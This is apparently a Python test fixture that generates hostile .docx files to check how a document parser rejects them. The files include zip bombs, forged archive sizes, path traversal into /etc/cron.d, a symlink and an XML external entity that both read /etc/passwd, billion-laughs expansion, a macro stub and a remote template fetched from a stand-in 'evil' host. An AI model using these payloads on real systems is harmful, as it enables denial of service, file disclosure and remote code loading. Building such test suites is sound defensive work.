"""Word files whose container, markup or size is an attack."""

import io
import struct
import zipfile

from tests.factories.files.docs import encrypted_docx
from tests.factories.files.docxs import DOCUMENT, docx_of, lesson_docx, repacked, with_document
from tests.factories.files.hostile import hostile

_MIB = 1024 * 1024
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SECRET_PATH = "/etc/passwd"


def _document_of_zeros(size: int) -> bytes:
    return with_document(b"<w>" + b" " * size + b"</w>")


def _sizes_replaced(stated: int) -> bytes:
    """Return a Word file with 5 MiB of padding in an entry that says it holds `stated` bytes."""
    content = bytearray(repacked(lambda archive: archive.writestr("word/media/padding.bin", bytes(5 * _MIB))))
    for signature, size_at, name_at in ((b"PK\3\4", 22, 30), (b"PK\1\2", 24, 46)):
        place = content.find(signature)
        while place >= 0:
            if content[place + name_at :].startswith(b"word/media/padding.bin"):
                struct.pack_into("<I", content, place + size_at, stated)
            place = content.find(signature, place + 4)
    return bytes(content)


def _document_said_to_be_short() -> bytes:
    content = bytearray(docx_of("<w:p><w:r><w:t>" + "long " * 100_000 + "</w:t></w:r></w:p>"))
    place = content.rfind(b"PK\1\2")
    struct.pack_into("<I", content, place + 24, 64)
    return bytes(content)


def _many_entries(count: int = 60_000) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for number in range(count):
            archive.writestr(f"word/{number}", b"")
    return packed.getvalue()


def _nested(levels: int = 6) -> bytes:
    inner = bytes(_MIB)
    for _ in range(levels):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(8):
                archive.writestr(f"{copy}.zip", inner)
        inner = packed.getvalue()
    return repacked(lambda archive: archive.writestr("word/embeddings/more.zip", inner))


def _twice_the_document() -> bytes:
    import warnings  # noqa: PLC0415

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return repacked(lambda archive: archive.writestr(DOCUMENT, b"<w:document/>"))


def _named(name: str) -> bytes:
    return repacked(lambda archive: archive.writestr(name, b"* * * * * root reboot"))


def _symlink() -> bytes:
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return repacked(lambda archive: archive.writestr(entry, SECRET_PATH))


def _marked_encrypted() -> bytes:
    content = bytearray(lesson_docx())
    for signature, flags_at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = content.find(signature)
        while place >= 0:
            content[place + flags_at] |= 1
            place = content.find(signature, place + 4)
    return bytes(content)


def _external_entity() -> bytes:
    return with_document(
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{SECRET_PATH}">]>'
        f"<w:document {_W}><w:body><w:p><w:r><w:t>Before &x; after</w:t></w:r></w:p></w:body></w:document>".encode()
    )


def _billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 11)
    )
    return with_document(
        f'<?xml version="1.0"?><!DOCTYPE d [{entities}]><w:document {_W}><w:body><w:p><w:r><w:t>Laugh &a10;'
        "</w:t></w:r></w:p></w:body></w:document>".encode()
    )


def _with_macros() -> bytes:
    return repacked(lambda archive: archive.writestr("word/vbaProject.bin", b"Sub AutoOpen()"))


def _tables_in_tables(levels: int) -> bytes:
    return docx_of("<w:tbl><w:tr><w:tc>" * levels + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * levels)


def _without_document() -> bytes:
    return repacked(lambda archive: archive.writestr("xl/workbook.xml", b"<workbook/>"), without={DOCUMENT})


def _far_template() -> bytes:
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://203.0.113.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(lambda archive: archive.writestr("word/_rels/settings.xml.rels", relations))


_HUGE = "damaged no_text out_of_memory timed_out"

FILES = [
    hostile("bomb-60-mib-in-one-entry.docx", lambda: _document_of_zeros(60 * _MIB), "too_large", door=True),
    hostile("bomb-40-mib-at-1000-to-1.docx", lambda: _document_of_zeros(40 * _MIB), _HUGE, door=True),
    hostile("entry-says-64-bytes.docx", _document_said_to_be_short, "damaged", door=True),
    hostile("entry-says-4-gib.docx", lambda: _sizes_replaced(0xFFFFFFF0), "too_large", door=True),
    hostile("entry-says-nothing.docx", lambda: _sizes_replaced(0), "read damaged", door=True),
    hostile("sixty-thousand-entries.docx", _many_entries, "too_large", door=True),
    hostile("zips-in-zips.docx", _nested, "read too_large"),
    hostile("two-documents.docx", _twice_the_document, "damaged", door=True),
    hostile("traversal.docx", lambda: _named("word/../../../etc/cron.d/job"), "damaged", door=True),
    hostile("absolute-path.docx", lambda: _named("/etc/cron.d/job"), "damaged", door=True),
    hostile("symlink.docx", _symlink, "read"),
    hostile("entries-encrypted.docx", _marked_encrypted, "encrypted", door=True),
    hostile("with-password.docx", encrypted_docx, "encrypted", door=True),
    hostile("external-entity.docx", _external_entity, "read damaged", door=True),
    hostile("billion-laughs.docx", _billion_laughs, "read damaged", door=True),
    hostile("macros.docx", _with_macros, "unsupported", door=True),
    hostile("truncated.docx", lambda: lesson_docx()[:20_000], "damaged", door=True),
    hostile("spreadsheet.docx", _without_document, "unsupported", door=True),
    hostile("no-markup.docx", lambda: with_document(b"Dear pupils"), "damaged"),
    hostile("tables-in-100-tables.docx", lambda: _tables_in_tables(60), "no_text damaged"),
    hostile("tables-in-20000-tables.docx", lambda: _tables_in_tables(20_000), _HUGE),
    hostile("two-million-paragraphs.docx", lambda: docx_of("<w:p/>" * 2_000_000), f"{_HUGE} too_large"),
    hostile("far-template.docx", _far_template, "read"),
    hostile("random-after-pk.docx", lambda: b"PK\3\4" + bytes(range(256)) * 400, "damaged", door=True),
]
